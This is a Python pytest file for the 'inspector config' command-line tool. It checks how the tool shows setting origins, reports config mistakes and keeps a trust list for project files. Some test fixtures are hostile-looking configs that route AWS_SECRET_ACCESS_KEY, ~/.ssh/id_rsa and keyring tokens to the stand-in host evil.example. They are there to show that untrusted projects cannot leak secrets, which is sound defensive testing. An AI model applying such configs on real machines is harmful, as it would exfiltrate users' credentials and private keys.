"""`inspector config`: origins, paths, mistakes, a first file, trust."""

import json
import os
from pathlib import Path

import pytest
import tomli
from click.testing import CliRunner, Result

from inspector.cli import main

REFERRING = """\
[[sources]]
type = "http"
id = "theirs"
url = "https://evil.example/"
headers = { X = { env = "AWS_SECRET_ACCESS_KEY" } }
"""

S3 = """\
[[sources]]
type = "s3"
id = "a"
bucket = "b"
region = ["r", "https://evil.example/"]
aws_credentials_provider = "container"
"""
SENTRY = """\
[[sources]]
type = "sentry"
id = "a"
url = "https://evil.example/"
token = { file = "~/.ssh/id_rsa" }
"""
GCS = """\
[[sources]]
type = "gcs"
id = "a"
bucket = "b"
bearer_token = { keyring = "x" }
"""


@pytest.fixture(autouse=True)
def _own_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A home of our own; the current folder is the project's."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary")
    for name in [name for name in os.environ if name.startswith("INSPECTOR_")]:
        monkeypatch.delenv(name)
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")


def run(*arguments: str) -> Result:
    done = CliRunner().invoke(main, ["config", *arguments])
    assert "canary" not in done.output
    return done


def test_show(monkeypatch: pytest.MonkeyPatch) -> None:
    Path("inspector.toml").write_text('\ncache_dir = "/x\\u001b[0m"\n')
    monkeypatch.setenv("INSPECTOR_STRICT", "1")
    lines = dict(line.split(maxsplit=1) for line in run("show", "--offline").output.splitlines())
    assert lines["offline"].split() == ["true", "--offline"]
    assert lines["strict"].split() == ["true", "INSPECTOR_STRICT"]
    assert lines["cache_dir"].endswith("inspector.toml:2")
    assert lines["connect_timeout"].split() == ['"5s"', "default"]
    rows = json.loads(run("show", "--format", "json").output)
    (row,) = [row for row in rows if row["key"] == "cache_dir"]
    assert (row["value"], row["origin"], row["line"]) == ("/x\x1b[0m", "file", 2)


def test_path(tmp_path: Path) -> None:
    project = tmp_path / "project" / "inspector.toml"
    user, there = json.loads(run("path", "--format", "json").output)
    assert there == {"role": "project", "path": str(project), "exists": False}
    project.write_text("")
    user, there = run("path").output.splitlines()
    assert user.split()[:3] == ["user", "not", "there"]
    assert there.split() == ["project", "read", str(project)]


def test_check_tells_all(tmp_path: Path) -> None:
    Path("inspector.toml").write_text("offlin = 1\nstrict = 3\n")
    done = run("check")
    path = tmp_path / "project" / "inspector.toml"
    assert done.exit_code == 2
    assert done.output.splitlines() == [
        f"{path}:1: offlin: unknown setting, did you mean `offline`?",
        f"{path}:2: strict: Expected `bool`, got `int`",
    ]
    Path("other.toml").write_text("strict = true")
    good = run("check", "other.toml")
    assert (good.exit_code, good.output) == (0, "other.toml: ok\n")
    assert run("check", "none.toml").exit_code == 2


def test_mistakes_stop_other_commands_a_line_each() -> None:
    Path("inspector.toml").write_text("offlin = 1\nstrict = 3\n")
    done = CliRunner().invoke(main, ["sources", "list"])
    assert done.exit_code == 2
    assert len(done.stderr.splitlines()) == 2


def test_init_never_overwrites(tmp_path: Path) -> None:
    done = run("init")
    assert done.exit_code == 0
    path = tmp_path / "project" / "inspector.toml"
    assert done.output == f"{path}\n"
    assert run("check").output == f"{path}: ok\n"
    path.write_text("strict = true")
    done = run("init")
    assert (done.exit_code, path.read_text()) == (2, "strict = true")
    assert "nothing was written" in done.stderr
    done = run("init", "--user")
    assert Path(done.output.strip()).parent == tmp_path / "config" / "inspector"


def test_a_project_uses_no_secret_before_it_is_trusted() -> None:
    path = Path("inspector.toml")
    path.write_text(REFERRING)
    done = run("show")
    assert done.exit_code == 2
    assert "sources[0].headers.X" in done.stderr
    assert "inspector config trust" in done.stderr
    assert run("show", "--config", str(path)).exit_code == 0  # named is trusted
    assert run("trust").exit_code == 0
    done = run("show")
    assert done.exit_code == 0
    assert "evil.example" in done.output
    assert run("trust", "--remove").exit_code == 0
    assert run("check").exit_code == 2


@pytest.mark.parametrize(
    "text",
    [
        "connect_to_reserved_ips = true",
        'serve_roots = ["/"]',
        'trusted_projects = ["inspector.toml"]',
        S3,
        SENTRY,
        GCS,
    ],
    ids=["private hosts", "served folders", "itself", "machine's keys", "a file", "keyring"],
)
def test_what_an_untrusted_project_may_not_say(text: str) -> None:
    Path("inspector.toml").write_text(text)
    done = run("check")
    assert done.exit_code == 2
    assert len(done.output.splitlines()) == 1
    assert "project" in done.output


def test_trust_is_kept_in_the_users_own_file(tmp_path: Path) -> None:
    own = tmp_path / "config" / "inspector" / "inspector.toml"
    own.parent.mkdir(parents=True)
    own.write_text("# mine\nstrict = true\n")
    Path("inspector.toml").write_text(REFERRING)
    run("trust")
    run("trust")
    tree = tomli.loads(own.read_text())
    assert tree["trusted_projects"] == [str(tmp_path / "project" / "inspector.toml")]
    assert own.read_text().startswith("# mine\nstrict = true\n")
    own.write_text("broken = = 1")
    assert run("trust").exit_code == 2
    assert own.read_text() == "broken = = 1"
    Path("inspector.toml").unlink()
    assert run("trust").exit_code == 2
